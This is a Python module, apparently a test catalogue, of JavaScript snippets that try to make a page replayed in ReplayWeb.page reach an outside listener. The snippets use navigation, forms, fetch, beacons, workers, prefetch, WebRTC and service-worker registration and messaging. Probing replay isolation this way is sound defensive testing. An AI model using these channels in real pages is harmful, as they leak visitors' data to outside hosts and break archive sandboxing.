"""Ways out of a page that ReplayWeb.page replays, as scripts; *at* is a listener.

Each is the body of an async function of ``w`` and ``at``: ``w`` is the page's own window, or one
that the program did not rewrite. What a page is kept from by rewriting alone, a page can undo; so
these are run in the windows as they are, with a user's click to their credit.
"""

from __future__ import annotations

_LINK = (
    "const l = w.document.createElement('link'); Object.assign(l, {%s}); w.document.head.append(l)"
)
_ELEMENT = (
    "const e = w.document.createElement('%s'); Object.assign(e, {%s}); w.document.body.append(e)"
)
_MARKUP = "const d = w.document.createElement('div'); d.innerHTML = `%s`; w.document.body.append(d)"
_CLICK = _ELEMENT + "; e.click()"
_FORM = (
    "const f = w.document.createElement('form'); Object.assign(f, {%s});"
    " w.document.body.append(f); f.%s()"
)
_CHILD = (
    "const c = w.document.createElement('iframe'); w.document.body.append(c);"
    " const v = c.contentWindow; %s"
)
_WORKER = "new w.Worker(w.URL.createObjectURL(new w.Blob([`%s`], {type: 'text/javascript'})))"


def _link(rel: str, more: str = "") -> str:
    return _LINK % f"rel: '{rel}', href: at + '/x' {more}"


WAYS = {
    # by navigation
    "top location": "w.top.location = at",
    "top href": "w.top.location.href = at",
    "top assign": "w.top.location.assign(at)",
    "top replace": "w.top.location.replace(at)",
    "parent location": "w.parent.location = at",
    "grandparent": "w.parent.parent.location = at",
    "open": "w.open(at)",
    "open _top": "w.open(at, '_top')",
    "open _parent": "w.open(at, '_parent')",
    "open noopener": "w.open(at, '_blank', 'noopener')",
    "link _top": _CLICK % ("a", "href: at, target: '_top'"),
    "link _blank": _CLICK % ("a", "href: at, target: '_blank'"),
    "link _parent": _CLICK % ("a", "href: at, target: '_parent'"),
    "link download": _CLICK % ("a", "href: at, download: 'x'"),
    "link ping": _CLICK % ("a", "href: '#', ping: at"),
    "child location": _CHILD % "v.location = at",
    "child link": _CHILD % "const a = v.document.createElement('a'); a.href = at;"
    " v.document.body.append(a); a.click()",
    "child refresh": _CHILD % "v.document.write(`<meta http-equiv=refresh content='0;url=${at}'>`)",
    "child navigation": _CHILD % "v.navigation.navigate(at)",
    "iframe": _ELEMENT % ("iframe", "src: at"),
    "iframe srcdoc": _ELEMENT % ("iframe", "srcdoc: `<img src='${at}'>`"),
    "iframe data": _ELEMENT % ("iframe", "src: `data:text/html,<img src='${at}'>`"),
    "iframe blob": _ELEMENT % ("iframe", ("src: w.URL.createObjectURL(new w.Blob("
    "[`<script>fetch('${at}', {mode: 'no-cors'})</script>`], {type: 'text/html'}))")),
    "iframe javascript": _ELEMENT % ("iframe", "src: `javascript:location='${at}'`"),
    "object": _ELEMENT % ("object", "data: at"),
    "embed": _ELEMENT % ("embed", "src: at"),
    # by form
    "form": _CHILD % "v.document.write(`<form action='${at}'></form>`);"
    " v.document.forms[0].submit()",
    "form _top": _FORM % ("action: at, target: '_top'", "submit"),
    "form _blank": _FORM % ("action: at, target: '_blank', method: 'post'", "submit"),
    "form requested": _FORM % ("action: at, target: '_blank'", "requestSubmit"),
    # by fetching
    "fetch": "w.fetch(at)",
    "fetch no-cors": "w.fetch(at, {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true})",
    "fetch later": "w.fetchLater(at, {activateAfter: 0})",
    "request": "const x = new w.XMLHttpRequest(); x.open('GET', at); x.send()",
    "beacon": "w.navigator.sendBeacon(at, 'x')",
    "events": "new w.EventSource(at)",
    "web socket": "new w.WebSocket(at.replace('http', 'ws'))",
    "image": "new w.Image().src = at",
    "image attribution": _ELEMENT % ("img", "attributionSrc: at"),
    "audio": "new w.Audio(at).play()",
    "video poster": _ELEMENT % ("video", "poster: at"),
    "script": _ELEMENT % ("script", "src: at"),
    "module": _ELEMENT % ("script", "type: 'module', text: `import '${at}/m.js'`"),
    "import": _ELEMENT % ("script", "text: `import('${at}/i.js')`"),
    "style": _ELEMENT % ("style", "textContent: `body {background: url(${at}/css)}`"),
    "style import": _ELEMENT % ("style", "textContent: `@import '${at}/import'`"),
    "font": "w.document.fonts.add(await new w.FontFace('f', `url(${at})`).load())",
    "svg": _MARKUP % "<svg width=9 height=9><image href='${at}' width=9 height=9 /></svg>",
    "sheet": _link("stylesheet"),
    "icon": _link("icon"),
    # by prefetch
    "prefetch": _link("prefetch"),
    "preload": _link("preload", ", as: 'image'"),
    "module preload": _link("modulepreload"),
    "prerender": _link("prerender"),
    "preconnect": _link("preconnect"),
    "dns-prefetch": _link("dns-prefetch"),
    "speculation prefetch": _ELEMENT % ("script", ("type: 'speculationrules', text:"
    " JSON.stringify({prefetch: [{urls: [at], eagerness: 'immediate'}]})")),
    "speculation prerender": _ELEMENT % ("script", ("type: 'speculationrules', text:"
    " JSON.stringify({prerender: [{urls: [at], eagerness: 'immediate'}]})")),
    # by workers
    "worker": _WORKER % "fetch('${at}', {mode: 'no-cors'})",
    "worker import": _WORKER % "importScripts('${at}')",
    "worker socket": _WORKER % "new WebSocket('${at}'.replace('http', 'ws'))",
    "shared worker": "new w.SharedWorker(w.URL.createObjectURL(new w.Blob("
    "[`fetch('${at}', {mode: 'no-cors'})`], {type: 'text/javascript'})))",
    "worklet": "await new w.AudioContext().audioWorklet.addModule(at)",
}  # fmt: skip

BY_WORKER = {
    # what the page can ask of the service worker, or put in its place
    "told to load": "w.navigator.serviceWorker.controller.postMessage({msg_type: 'addColl',"
    " name: 'out', file: {sourceUrl: at + '/x.wacz', name: 'x.wacz'}, type: 'remotesource'})",
    "told of a proxy": "w.navigator.serviceWorker.controller.postMessage({msg_type: 'addColl',"
    " name: 'live', type: 'live', file: {sourceUrl: 'proxy:' + at}, extraConfig: {prefix: at + '/',"
    " isLive: true, archivePrefix: at + '/'}})",
    "asked of the proxy": "await w.fetch('/replay/w/live/mp_/' + at)",
    "registered elsewhere": "await w.navigator.serviceWorker.register(at + '/sw.js')",
    "registered bare": "await w.navigator.serviceWorker.register('/replay/program.js')",
    "registered ui": "await w.navigator.serviceWorker.register('/replay/ui.js')",
    "registered with a proxy": "await w.navigator.serviceWorker.register('/replay/sw.js?"
    "proxyOriginMode=1&allowProxyPaths=' + encodeURIComponent(at) + '&replayPrefix=' + at)",
    "background fetch": "const r = await w.navigator.serviceWorker.getRegistration();"
    " await r.backgroundFetch.fetch('x', [at])",
    "redirect": "await w.caches.open('x'); await w.fetch('/replay/w/x/mp_/' + at)",
}

LAST = {
    # these may end the frame in which they are run; of a refused peer Chromium 156 ends the page
    "web rtc": "const p = new w.RTCPeerConnection({iceServers: [{username: 'u', credential: 'c',"
    " urls: at.replace('http://', 'turn:') + '?transport=tcp'}]}); p.createDataChannel('x');"
    " p.setLocalDescription(await p.createOffer())",
    "own location": "w.location = at",
    "own link": _CLICK % ("a", "href: at"),
    "own refresh": "w.document.head.insertAdjacentHTML('beforeend',"
    " `<meta http-equiv=refresh content='0;url=${at}'>`)",
}
